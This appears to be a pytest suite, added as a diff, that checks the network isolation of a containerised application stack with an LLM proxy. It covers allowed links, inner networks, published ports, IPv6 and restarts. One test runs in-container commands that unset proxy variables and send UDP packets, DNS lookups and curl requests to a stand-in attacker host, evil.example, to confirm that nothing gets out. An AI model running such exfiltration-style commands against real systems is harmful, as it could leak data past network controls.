@@ -1,0 +1,219 @@
+"""Who reaches whom, tried from inside the containers, from the server, and from its neighbour."""
+
+import ipaddress
+import json
+from itertools import permutations
+
+import bed as world
+import pytest
+from bed import Internet, Neighbour, Server
+from stack import LISTENS, PORTS, SERVICES, Stack
+from suite import bed, control, thorough
+
+# Who may call whom, and at which port.
+RELATIONS = {
+    ("gateway", "frontend"): 3000,
+    ("frontend", "backend"): 4096,
+    ("backend", "llm-proxy"): 4000,
+    ("backend", "egress"): 3129,
+    ("llm-proxy", "egress"): 3128,
+}
+# Everyone's networks.
+MEMBERS = {
+    "egress": {"llm_out", "tools_out", "outside"},
+    "llm-proxy": {"llm", "llm_out"},
+    "backend": {"app", "llm", "tools_out"},
+    "frontend": {"web", "app"},
+    "gateway": {"edge", "web"},
+}
+INNER = {"web", "app", "llm", "llm_out", "tools_out"}
+SHUT_IN = ("llm-proxy", "backend", "frontend")
+
+
+@pytest.mark.parametrize(("source", "target"), RELATIONS)
+@control("relations")
+def test_each_link_of_the_chain_reaches_the_next(stack: Stack, source: str, target: str) -> None:
+    """Calls whom it may call, so that the silence of the others means something."""
+    assert stack.answered(source, [(target, RELATIONS[source, target])])
+
+
+@control("relations")
+def test_each_service_is_on_its_own_networks_alone(stack: Stack) -> None:
+    """Looks for a network that a service has no business on."""
+    assert {service: stack.members(service) for service in SERVICES} == MEMBERS
+    strangers = {name: [one["Name"] for one in network["Containers"].values()] for name, network in stack.networks.items()}
+    ours = {stack.name(service) for service in SERVICES}
+    assert {name: sorted(set(found) - ours) for name, found in strangers.items()} == {name: [] for name in strangers}
+
+
+@control("relations", "direction")
+@pytest.mark.parametrize("source", [*SHUT_IN, *(pytest.param(service, marks=thorough) for service in SERVICES if service not in SHUT_IN)])
+def test_it_reaches_no_service_but_those_it_calls(stack: Stack, source: str) -> None:
+    """Asks every port of every other service, by name and by each of its addresses."""
+    targets = {
+        (name, port): target
+        for target in SERVICES
+        if target != source
+        for name in ((target, *stack.addresses(target)) if source in SHUT_IN else stack.addresses(target))
+        for port in PORTS
+        # The tools' own way out is the same port, whatever the address.
+        if RELATIONS.get((source, target)) != port
+    }
+    answers = {ask: answer for ask, answer in stack.answers(source, targets).items() if answer}
+    if source not in SHUT_IN:
+        # These have a way out, where some networks answer to any address at all: who was reached is told by the answer.
+        own = {target: stack.answers(target, [LISTENS[target]])[LISTENS[target]] for target in set(targets.values())}
+        assert all(own.values())
+        answers = {ask: answer for ask, answer in answers.items() if without_date(answer) == without_date(own[targets[ask]])}
+    assert answers == {}
+
+
+def without_date(head: str) -> list[str]:
+    """Return the lines of an answer's head that are always the same."""
+    return [line for line in head.splitlines() if not line.lower().startswith(("date:", "x-squid-error", "content-length"))]
+
+
+@control("inner-networks", "no-host-address")
+def test_an_inner_network_has_no_way_out_and_no_address_of_the_server(stack: Stack) -> None:
+    """Looks at the networks as they are, which may not be as they were described."""
+    assert {name for name, network in stack.networks.items() if network["Internal"]} == INNER
+    for name in INNER:
+        bridge = f"br-{stack.networks[name]['Id'][:12]}"
+        assert stack.server.check_output(f"ip -oneline -4 address show dev {bridge}") == "", name
+
+
+@control("inner-networks")
+@pytest.mark.parametrize("service", SHUT_IN)
+def test_it_has_no_route_out(stack: Stack, service: str) -> None:
+    """Looks for a default route, and asks for a name of the internet's."""
+    destinations = [line.split()[1] for line in stack.output(service, "cat /proc/net/route").splitlines()]
+    assert len(destinations) > 1
+    assert "00000000" not in destinations
+    assert stack.inside(service, "getent hosts www.iana.org").rc != 0
+
+
+@control("inner-networks")
+@bed
+@pytest.mark.parametrize("service", SHUT_IN)
+def test_it_reaches_nobody_outside_but_through_the_guard(stack: Stack, internet: Internet, service: str) -> None:
+    """Calls the attacker over TCP, UDP and DNS, with the proxy's variables unset."""
+    mark = internet.mark()
+    script = f"""unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy
+        for port in 22 53 80 443 853 9999; do (echo from-{service} >/dev/udp/{world.ATTACKER}/$port) 2>/dev/null; done
+        getent hosts from-{service}.evil.example; getent ahostsv6 from-{service}.evil.example
+        command -v curl >/dev/null && curl --silent --noproxy '*' --max-time 3 http://evil.example/from-{service}
+        true"""
+    stack.output(service, script)
+    outside = [
+        (address, port) for address in (world.ATTACKER, world.ATTACKER6, world.LAN_SERVICE, world.METADATA) for port in (22, 53, 80, 443)
+    ]
+    assert stack.answered(service, outside) == []
+    # The record is written in the order of what comes: once this is there, so is what came before it.
+    stack.server.check_output(f"curl --silent http://evil.example/end-of-{service}")
+    seen = internet.records(mark)
+    assert any(f"end-of-{service}" in json.dumps(entry) for entry in seen)
+    assert [entry for entry in seen if f"from-{service}" in json.dumps(entry)] == []
+
+
+@control("no-host-address", "no-ipv6")
+@bed
+@pytest.mark.parametrize("service", SHUT_IN)
+def test_it_reaches_nothing_of_the_servers_own(stack: Stack, service: str) -> None:
+    """Asks the server's own service at every address that the server has: LAN, internet, bridges, link-local."""
+    links = json.loads(stack.server.check_output("ip -json address"))
+    addresses = {
+        one["local"] + ("%eth0" if one["scope"] == "link" else "") for link in links for one in link["addr_info"] if link["ifname"] != "lo"
+    }
+    gateways = {config["Gateway"] for network in stack.networks.values() for config in network["IPAM"]["Config"] if "Gateway" in config}
+    assert len(addresses | gateways) > 8
+    port = int(world.HOST_SERVICE["port"])
+    assert (
+        stack.answered(
+            service, [(name, port) for name in (*sorted(addresses | gateways), "host.docker.internal", "gateway.docker.internal")]
+        )
+        == []
+    )
+
+
+@control("no-ipv6")
+def test_no_container_has_an_ipv6_address(stack: Stack) -> None:
+    """Looks for an IPv6 address on anything but loopback."""
+    for service in SERVICES:
+        interfaces = stack.inside(service, "cat /proc/net/if_inet6").stdout
+        assert [line for line in interfaces.splitlines() if not line.endswith(" lo")] == [], service
+    assert [name for name, network in stack.networks.items() if network["EnableIPv6"]] == []
+
+
+@control("one-port")
+def test_only_the_gateway_publishes_a_port_and_only_on_loopback(stack: Stack) -> None:
+    """Looks for a published port."""
+    published = {
+        (service, binding["HostIp"])
+        for service in SERVICES
+        for bindings in (stack.containers[service]["HostConfig"]["PortBindings"] or {}).values()
+        for binding in bindings
+    }
+    assert {service for service, _ in published} == {"gateway"}
+    assert all(ipaddress.ip_address(address).is_loopback for _, address in published)
+    assert [service for service in SERVICES if stack.containers[service]["HostConfig"]["PublishAllPorts"]] == []
+
+
+@control("one-port")
+@bed
+@pytest.mark.parametrize("address", [world.SERVER["lan"], world.SERVER["lan6"]])
+def test_the_neighbour_finds_no_open_port_of_the_stack(neighbour: Neighbour, address: str) -> None:
+    """Asks the server from another machine on its LAN, at every port that something of the stack listens on."""
+    assert world.HOST_SERVICE["answer"] in neighbour.answer(address, world.HOST_SERVICE["port"])
+    assert [port for port in (*PORTS, 80, 443, 2019, 2375, 2376) if neighbour.answer(address, port, 2)] == []
+
+
+def reached(stack: Stack, neighbour: Neighbour, server: Server) -> list[str]:
+    """Return what answers the neighbour with more than a refusal, when it sends what is for the containers to the server."""
+    neighbour.route(server.subnets())
+    stack.refresh()
+    asks = [(service, address, port) for service in SERVICES for address in stack.addresses(service) for port in PORTS]
+    script = "\n".join(
+        f"(said=$(curl --silent --include --header 'Host: localhost:3000' --max-time 3 http://{address}:{port}/ | head -1); echo {service} {port} $said) &"
+        for service, address, port in asks
+    )
+    said = neighbour.output(f"{script}\nwait")
+    assert len(said.splitlines()) == len(asks)
+    return [line for line in said.splitlines() if len(line.split()) > 2 and " 403" not in line]
+
+
+@control("static-route")
+@bed
+def test_a_neighbour_with_a_route_of_its_own_reaches_nothing(stack: Stack, neighbour: Neighbour, server: Server) -> None:
+    """Sends packets for the containers' addresses to the server, as a neighbour on the LAN can."""
+    assert reached(stack, neighbour, server) == []
+
+
+@control("static-route", "inner-networks")
+@bed
+@pytest.mark.parametrize(
+    "event", ["the engine restarts", "the firewall is emptied and the engine's rules are made anew", "the server restarts"]
+)
+def test_it_is_closed_again_when_something_was_restarted(
+    stack: Stack, neighbour: Neighbour, server: Server, internet: Internet, event: str
+) -> None:
+    """Restarts the engine, its firewall rules, or the server, and tries from both sides again."""
+    if event == "the engine restarts":
+        server.restart_engine()
+    elif event == "the server restarts":
+        server.restart()
+    else:
+        server.output("iptables --flush && iptables --table nat --flush && systemctl restart docker")
+        server.wait_for_stack()
+    assert reached(stack, neighbour, server) == []
+    mark = internet.mark()
+    assert stack.answered("backend", [(world.ATTACKER, 80), (world.SERVER["lan"], int(world.HOST_SERVICE["port"]))]) == []
+    assert [entry for entry in internet.records(mark) if entry["kind"] == "http"] == []
+    assert stack.from_server("http://localhost:3000/") == "200"
+
+
+@control("relations")
+@thorough
+def test_no_pair_shares_a_network_without_a_relation(stack: Stack) -> None:
+    """Looks at each pair of services that share a network."""
+    sharing = {pair for pair in permutations(SERVICES, 2) if stack.members(pair[0]) & stack.members(pair[1])}
+    assert {pair for pair in sharing if pair not in RELATIONS and (pair[1], pair[0]) not in RELATIONS} == set()
